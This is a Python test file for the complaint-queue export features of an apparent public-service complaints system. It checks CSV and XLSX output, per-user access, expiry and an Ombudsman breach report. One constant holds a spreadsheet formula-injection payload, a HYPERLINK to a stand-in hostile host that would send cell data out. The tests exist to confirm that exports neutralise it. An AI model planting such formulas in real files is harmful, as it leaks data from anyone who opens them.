"""Exports (issue 15, items 10 to 12): the queue with its clocks as CSV (streamed) and XLSX
(written in the background with its progress), only the caller's rows, no identity, formulas
neutralised; the Ombudsman report of breaches escalated to the inspectorate."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import func, select

from backend.extensions import db
from backend.reports.models import ExportJob
from backend.scheduler import run_exports, sweep_once
from tests.api.fault_helpers import frozen
from tests.factories import file_complaint
from tests.sla_helpers import act

CSV_URL = "/api/v1/reports/exports/complaints.csv"
JOBS = "/api/v1/reports/exports"
MONDAY = datetime(2026, 3, 9, 3, 0, tzinfo=UTC)  # Monday 10:00 WIB
FORMULA = '=HYPERLINK("http://jahat.example/?"&A1,"klik")'


def _csv(response) -> list[dict[str, str]]:
    """The rows of a CSV answer; the response is closed, as a WSGI server closes it, which ends
    the request (and its transaction) that the streamed body kept open."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    text = response.get_data(as_text=True)
    response.close()
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_queue_exports_as_csv_with_its_clocks_and_no_identity(client, headers_for):
    verifier = headers_for("verifier")
    receipt = file_complaint(
        client,
        title=FORMULA,
        complainant={"kind": "person", "name": "Nining Rahayu", "email": "nining@contoh.id"},
    )
    act(client, verifier, receipt["id"], action="verify")
    response = client.get(CSV_URL, headers=verifier)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = {row["tracking_code"]: row for row in _csv(response)}
    row = rows[receipt["tracking_code"]]
    # a spreadsheet shows the title as text, never runs it
    assert row["title"] == "'" + FORMULA
    assert row["agency"] == "Dinas Kependudukan dan Pencatatan Sipil"
    assert row["status"] == "verified" and row["time_zone"] == "WIB"
    assert row["response_state"] == "stopped" and row["response_days_late"] == "0"
    assert row["decision_state"] == "running"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} 23:59", row["decision_due_at"])
    text = response.get_data(as_text=True)
    assert "Nining" not in text and "nining@contoh.id" not in text


def test_an_export_has_the_rows_the_callers_queue_has_and_citizens_get_none(client, headers_for):
    verifier, head = headers_for("verifier"), headers_for("agency_head")
    mine = file_complaint(client, category="ADMINDUK")  # DISDUKCAPIL: the demo head's agency
    other = file_complaint(client, category="PERIZINAN")  # DPMPTSP
    for receipt in (mine, other):
        act(client, verifier, receipt["id"], action="verify")
    queue = client.get("/api/v1/complaints", headers=head, query_string={"per_page": 100})
    expected = {c["tracking_code"] for c in queue.get_json()["items"]}
    exported = {row["tracking_code"] for row in _csv(client.get(CSV_URL, headers=head))}
    assert exported == expected
    assert mine["tracking_code"] in exported and other["tracking_code"] not in exported
    # the queue's filters apply
    only_closed = _csv(client.get(CSV_URL, headers=verifier, query_string={"status": "closed"}))
    assert only_closed == []
    citizen = client.get(CSV_URL, headers=headers_for("citizen"))
    assert citizen.status_code == 403
    assert client.get(CSV_URL).status_code == 401


def _sheet_text(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return "".join(
            book.read(name).decode("utf-8")
            for name in book.namelist()
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml"
        )


def test_an_xlsx_export_is_written_in_the_background_and_fetched_by_its_owner(
    app, client, headers_for
):
    verifier, supervisor = headers_for("verifier"), headers_for("supervisor")
    receipt = file_complaint(client, title=FORMULA)
    asked = client.post(JOBS, json={"format": "xlsx"}, headers=verifier)
    assert asked.status_code == 202, asked.get_json()
    job = asked.get_json()
    assert job["status"] == "queued" and job["done"] == 0
    poll = asked.headers["Location"]
    assert client.get(poll, headers=verifier).get_json()["status"] == "queued"
    # the request only records the job: the scheduler writes it
    with app.app_context():
        assert run_exports() == [job["id"]]
    done = client.get(poll, headers=verifier).get_json()
    assert done["status"] == "done" and done["done"] == done["total"] >= 1
    assert done["expires_at"] is not None
    # someone else's export does not exist for them
    assert client.get(poll, headers=supervisor).status_code == 404
    assert client.get(f"{poll}/file", headers=supervisor).status_code == 404
    download = client.get(f"{poll}/file", headers=verifier)
    assert download.status_code == 200
    assert download.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    saved = Path(app.config["EXPORT_DIR"]) / f"aduan-complaints-{job['id']}.xlsx"
    sheet = _sheet_text(saved)
    assert receipt["tracking_code"] in sheet
    assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
    assert "<f>" not in sheet  # no cell is a formula


def test_an_export_expires_after_a_day_and_its_file_goes(app, client, headers_for):
    with frozen(MONDAY) as traveller:
        verifier = headers_for("verifier")
        file_complaint(client)
        job = client.post(JOBS, json={"format": "csv"}, headers=verifier).get_json()
        with app.app_context():
            run_exports()
        path = Path(app.config["EXPORT_DIR"]) / f"aduan-complaints-{job['id']}.csv"
        assert path.is_file()
        traveller.shift(timedelta(hours=25))
        verifier = headers_for("verifier")
        gone = client.get(f"{JOBS}/{job['id']}/file", headers=verifier)
        assert gone.status_code == 404
        with app.app_context():
            run_exports()  # also deletes what expired
        assert not path.exists()


def test_a_writer_that_died_is_replaced_and_bad_filters_write_nothing(app, client, headers_for):
    verifier = headers_for("verifier")
    file_complaint(client)
    job = client.post(JOBS, json={"format": "csv"}, headers=verifier).get_json()
    with app.app_context():  # a scheduler took it and was killed eleven minutes ago
        row = db.session.get_one(ExportJob, job["id"])
        row.status, row.heartbeat_at = "running", datetime.now(UTC) - timedelta(minutes=11)
        db.session.commit()
        assert run_exports() == [job["id"]]
    assert client.get(f"{JOBS}/{job['id']}", headers=verifier).get_json()["status"] == "done"

    bad = client.post(
        JOBS, json={"format": "csv", "filters": {"status": ["nope"]}}, headers=verifier
    )
    assert bad.status_code == 422
    assert "filters" in bad.get_json()["errors"]
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(ExportJob)) == 1
    assert client.post(JOBS, json={"format": "pdf"}, headers=verifier).status_code == 422


def test_the_ombudsman_report_lists_breaches_escalated_to_the_inspectorate(
    app, client, headers_for
):
    with frozen(MONDAY) as traveller:
        receipt = file_complaint(client)  # nobody answers it
        traveller.shift(timedelta(days=40))
        with app.app_context():
            for _ in range(4):  # each sweep fires the next step that is due
                sweep_once()
        supervisor = headers_for("supervisor")
        refused = client.post(
            JOBS, json={"format": "csv", "kind": "ombudsman"}, headers=headers_for("officer")
        )
        assert refused.status_code == 403
        job = client.post(
            JOBS,
            json={
                "format": "csv",
                "kind": "ombudsman",
                "filters": {"breached_from": "2026-03-01T00:00:00+07:00"},
            },
            headers=supervisor,
        )
        assert job.status_code == 202, job.get_json()
        with app.app_context():
            run_exports()
        download = client.get(f"{JOBS}/{job.get_json()['id']}/file", headers=supervisor)
    rows = _csv(download)
    [row] = [r for r in rows if r["tracking_code"] == receipt["tracking_code"]]
    assert row["clock"] == "response" and int(row["escalation_level"]) >= 3
    assert int(row["days_overdue"]) >= 20 and "Pasal 54" in row["consequence"]
